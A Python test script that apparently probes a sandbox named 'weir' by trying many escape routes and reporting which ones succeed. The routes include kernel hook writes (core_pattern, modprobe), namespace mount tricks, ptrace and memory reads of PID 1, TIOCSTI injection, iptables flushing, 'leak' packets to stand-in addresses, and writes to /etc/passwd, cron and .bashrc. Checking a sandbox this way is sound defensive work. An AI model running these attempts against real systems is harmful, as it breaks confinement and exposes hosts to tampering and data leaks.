"""What a command might try in order to get out. Prints one JSON object: the name of each attempt, and what came of it."""
import ctypes
import errno
import fcntl
import json
import os
import signal
import socket
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
results = {}
paths = json.loads(sys.argv[1])
machine = os.uname().machine
KEYCTL, ADD_KEY, BPF = (250, 248, 321) if machine == "x86_64" else (219, 217, 280)
PTRACE_ATTACH, PIDFD_OPEN, PIDFD_GETFD = 16, 434, 438


def attempt(name, action):
    try:
        results[name] = f"done {action()}"
    except OSError as error:
        results[name] = errno.errorcode.get(error.errno, str(error.errno))
    except Exception as error:
        results[name] = f"{type(error).__name__} {error}"


def open_as(path, flags):
    def action():
        descriptor = os.open(os.path.expanduser(path), flags, 0o644)
        os.close(descriptor)
    return action


def written(path):
    return open_as(path, os.O_WRONLY | os.O_CREAT)


def shell(script):
    def action():
        run = subprocess.run(script, shell=True, capture_output=True, text=True, timeout=10)
        if run.returncode != 0:
            raise RuntimeError(f"status {run.returncode}")
        return run.stdout.strip()
    return action


def call(function, *arguments):
    def action():
        result = function(*arguments)
        if result < 0:
            raise OSError(ctypes.get_errno(), "")
        return result
    return action


def system_call(number, *arguments):
    return call(libc.syscall, number, *arguments)


def socket_of(family, kind=socket.SOCK_STREAM):
    return lambda: socket.socket(family, kind).close()


def connect(family, address):
    def action():
        with socket.socket(family) as client:
            client.settimeout(5)
            client.connect(address)
            return client.recv(16).decode().strip()
    return action


def send_udp(family, address):
    def action():
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            client.settimeout(0.3)
            client.sendto(b"leak", address)
            return client.recv(16).decode()
    return action


def status(field):
    with open("/proc/self/status") as file:
        return next(line.split(":")[1].strip() for line in file if line.startswith(field + ":"))


def holder_survives(number):
    os.kill(1, number)
    time.sleep(0.05)


def terminal_byte():
    fcntl.ioctl(0, 0x5412, b"x")


def orphans():
    for _ in range(20):
        if os.fork() == 0:
            if os.fork() == 0:
                os._exit(0)
            os._exit(0)
    for _ in range(20):
        os.wait()
    deadline = time.time() + 3
    while time.time() < deadline:
        zombies = subprocess.run("ps -eo state | grep -c Z", shell=True, capture_output=True, text=True).stdout.strip()
        if zombies == "0":
            return "none left"
        time.sleep(0.05)
    return zombies


# Who it is.
for field in ["Uid", "CapEff", "CapPrm", "CapInh", "CapAmb", "NoNewPrivs", "Seccomp"]:
    attempt(f"status {field}", lambda: status(field))
attempt("number of processes", lambda: len([name for name in os.listdir("/proc") if name.isdigit()]) < 10)
attempt("descriptors", lambda: sorted(os.listdir("/proc/self/fd"))[:3] + [str(len(os.listdir("/proc/self/fd")))])

# Devices and kernel settings.
attempt("devices", lambda: " ".join(sorted(os.listdir("/dev"))))
attempt("device node", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)))
attempt("null", written("/dev/null"))
attempt("random", lambda: len(open("/dev/urandom", "rb").read(4)))
attempt("own shared memory", written("/dev/shm/x"))
for name in ["sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/vm/drop_caches", "sysrq-trigger"]:
    attempt(f"write /proc/{name}", open_as(f"/proc/{name}", os.O_WRONLY))
for name in ["kcore", "kmsg", "keys", "timer_list"]:
    attempt(f"read /proc/{name}", lambda: len(open(f"/proc/{name}", "rb").read(16)) if os.path.exists(f"/proc/{name}") else 0)
attempt("list /sys/firmware", lambda: len(os.listdir("/sys/firmware")) if os.path.exists("/sys/firmware") else 0)
attempt("write /sys", open_as("/sys/power/state" if os.path.exists("/sys/power/state") else "/sys/kernel/mm/ksm/run", os.O_WRONLY))

# Mounts, from here and from namespaces of its own.
attempt("mount", shell("mount -t tmpfs x /mnt"))
attempt("remount", shell("mount -o remount,rw,bind /"))
attempt("unmount a cover", shell("umount /etc/resolv.conf"))
attempt("unmount everything", shell("umount -l /dev /run /tmp"))
attempt("nested", shell("unshare -Urmpf --mount-proc=/nonexistent true || unshare -Urmpf true"))
nested = "unshare -Urm sh -c "
attempt("control: nested bind", shell(nested + "'mount --bind /usr/bin /mnt && test -e /mnt/env'"))
attempt("control: nested overlay", shell(nested + "'mkdir /tmp/c /tmp/d; mount -t overlay -o lowerdir=/usr/bin,upperdir=/tmp/c,workdir=/tmp/d x /mnt'"))
attempt("control: nested recursive bind", shell(nested + "'mount --rbind / /mnt && grep -q 127.0.0.1 /mnt/etc/resolv.conf'"))
attempt("nested unmount", shell(nested + "'umount /etc/resolv.conf'"))
attempt("nested lazy unmount", shell(nested + "'umount -l /etc/resolv.conf || umount -l /dev || umount -l /run'"))
attempt("nested remount", shell(nested + "'mount -o remount,rw,bind /'"))
attempt("nested bind", shell(nested + "'mount --bind / /mnt'"))
attempt("nested bind of a directory", shell(nested + "'mount --bind /etc /mnt'"))
attempt("nested overlay", shell(nested + "'mkdir /tmp/u /tmp/w; mount -t overlay -o lowerdir=/etc,upperdir=/tmp/u,workdir=/tmp/w x /mnt'"))
attempt("nested recursive bind", shell(nested + "'mount --rbind / /mnt && umount /mnt/etc/resolv.conf'"))
attempt("nested recursive bind, written", shell(nested + "'mount --rbind / /mnt && touch /mnt/etc/x'"))
attempt("nested pivot", shell(nested + "'mount --rbind / /mnt && mkdir -p /tmp/o && cd /mnt && pivot_root . tmp/o && umount /etc/resolv.conf'"))
attempt("nested proc", shell("unshare -Urmpf mount -t proc x /mnt"))
attempt("nested sysfs", shell("unshare -Urmn mount -t sysfs x /mnt"))
attempt("nested devtmpfs", shell(nested + "'mount -t devtmpfs x /mnt'"))

# The holder.
for name in ["mem", "environ", "maps"]:
    attempt(f"read holder's {name}", lambda: open(f"/proc/1/{name}", "rb").read(16))
for name in ["root", "cwd", "exe", "ns/net", "ns/mnt", "fd/4"]:
    attempt(f"follow holder's {name}", lambda: os.readlink(f"/proc/1/{name}"))
attempt("list holder's root", lambda: os.listdir("/proc/1/root/"))
attempt("open holder's fd", lambda: os.open("/proc/1/fd/4", os.O_RDWR))
attempt("enter holder's namespaces", shell("nsenter -t 1 -U -n -m true"))
attempt("trace holder", call(libc.ptrace, PTRACE_ATTACH, 1, 0, 0))
attempt("take holder's descriptor", lambda: system_call(PIDFD_GETFD, system_call(PIDFD_OPEN, 1, 0)(), 4, 0)())
buffer = ctypes.create_string_buffer(16)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 16)
attempt("read holder's memory", call(libc.process_vm_readv, 1, vector, 1, vector, 1, 0))
for name in ["SIGKILL", "SIGSTOP", "SIGTERM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2"]:
    attempt(f"{name} to holder", lambda: holder_survives(getattr(signal, name)))
attempt("orphans", orphans)

# System calls.
for name, family in {"vsock": 40, "packet": 17, "alg": 38, "can": 29, "xdp": 44, "bluetooth": 31, "tipc": 30, "rds": 21}.items():
    attempt(f"socket {name}", socket_of(family, socket.SOCK_RAW if family in (17, 44) else socket.SOCK_SEQPACKET))
for name, family in {"unix": 1, "inet": 2, "inet6": 10}.items():
    attempt(f"socket {name}", socket_of(family))
attempt("socket netlink", socket_of(16, socket.SOCK_RAW))
attempt("raw socket", lambda: socket.socket(2, socket.SOCK_RAW, 1))
attempt("io_uring", system_call(425, 4, ctypes.create_string_buffer(120)))
attempt("keyctl", system_call(KEYCTL, 0, -3, 0))
attempt("add_key", system_call(ADD_KEY, b"user", b"x", b"y", 1, -3))
attempt("bpf", system_call(BPF, 0, ctypes.create_string_buffer(120), 120))
attempt("TIOCSTI", terminal_byte)

# The network.
attempt("tcp", connect(2, ("203.0.113.9", 80)))
attempt("tcp to a host service", connect(2, ("127.0.0.1", paths["port"])))
attempt("tcp6", connect(10, ("2001:db8::9", 80)))
attempt("udp", send_udp(2, ("203.0.113.9", 9999)))
attempt("dns", send_udp(2, ("203.0.113.9", 53)))
attempt("dns to loopback", send_udp(2, ("127.0.0.53", 53)))
attempt("mark", lambda: socket.socket(2, 2).setsockopt(1, 36, 0x57454952))
attempt("rules", shell("iptables-legacy -t mangle -F || iptables -t mangle -F"))
attempt("link", shell("ip link set lo down"))
attempt("interfaces", lambda: " ".join(name for _, name in socket.if_nameindex()))
attempt("resolv.conf", lambda: open("/etc/resolv.conf").read())
attempt("hosts", lambda: open("/etc/hosts").read().split()[0:2])

# Sockets and pipes of the host, some of them made when this already runs.
open("ready", "w").close()
for _ in range(200):
    if os.path.exists("go"):
        break
    time.sleep(0.05)
for name, path in paths["sockets"].items():
    attempt(f"unix {name}", connect(1, path.replace("@", "\0")))
attempt("unix through an overlay", shell(
    nested + f"'mkdir /tmp/a /tmp/b; mount -t overlay -o lowerdir={paths['outside']},upperdir=/tmp/a,workdir=/tmp/b x /mnt'"))
attempt("named pipe", lambda: os.write(os.open(paths["outside"] + "/pipe", os.O_WRONLY | os.O_NONBLOCK), b"leak"))
attempt("unix renamed directory", lambda: (os.rename("d", "e"), connect(1, "e/s")()))

# The file system.
attempt("write project", written("written"))
attempt("write cache", written(paths["cache"] + "/x"))
attempt("write /tmp", written(paths["own"]))
attempt("list /tmp", lambda: os.path.exists(paths["hostTmp"]))
for path in ["~/.bashrc", "~/new", "/etc/passwd", "/etc/cron.d/x", "/usr/bin/x", "/var/lib/x", paths["outside"] + "/x"]:
    attempt(f"write {path.replace(paths['outside'], 'outside')}", written(path))
os.symlink(paths["outside"], "link")
attempt("write through a link", written("link/x"))
attempt("write through dots", written("../outside/x"))
attempt("write through /proc", written("/proc/self/cwd/../outside/x"))
attempt("hard link in", lambda: os.link(paths["outside"] + "/file", "hard"))
attempt("rename out", lambda: os.rename("written", paths["outside"] + "/moved"))
attempt("masked file", lambda: open("secret/file").read())
attempt("masked directory", lambda: os.listdir(paths["masked"]))
attempt("unlink a mask", lambda: os.unlink("secret/file"))
attempt("read policy", lambda: open("policies/policy.yaml").read())
attempt("write policy", written("policies/policy.yaml"))
attempt("replace policy", lambda: (open("new", "w").close(), os.rename("new", "policies/policy.yaml")))
attempt("replace policy's directory", lambda: os.rename("policies", "old"))
attempt("write beside policy", written("policies/other"))
attempt("weir files", lambda: open("/run/weir/ca.crt").read())
attempt("write weir files", open_as("/run/weir/ca.crt", os.O_WRONLY))
attempt("new weir file", written("/run/weir/x"))
attempt("nosuid", lambda: all(os.statvfs(path).f_flag & os.ST_NOSUID for path in ["/", ".", "/tmp", "/dev", "/proc"]))
attempt("nodev", lambda: all(os.statvfs(path).f_flag & os.ST_NODEV for path in ["/", ".", "/tmp", "/dev/shm"]))

# What was inherited.
attempt("stdin", lambda: os.read(0, 100).decode())
attempt("write stdin", open_as("/proc/self/fd/0", os.O_WRONLY))
attempt("stdin's directory", lambda: os.listdir("/proc/self/fd/0/.."))
attempt("open /dev/tty", open_as("/dev/tty", os.O_RDWR))

print(json.dumps(results))
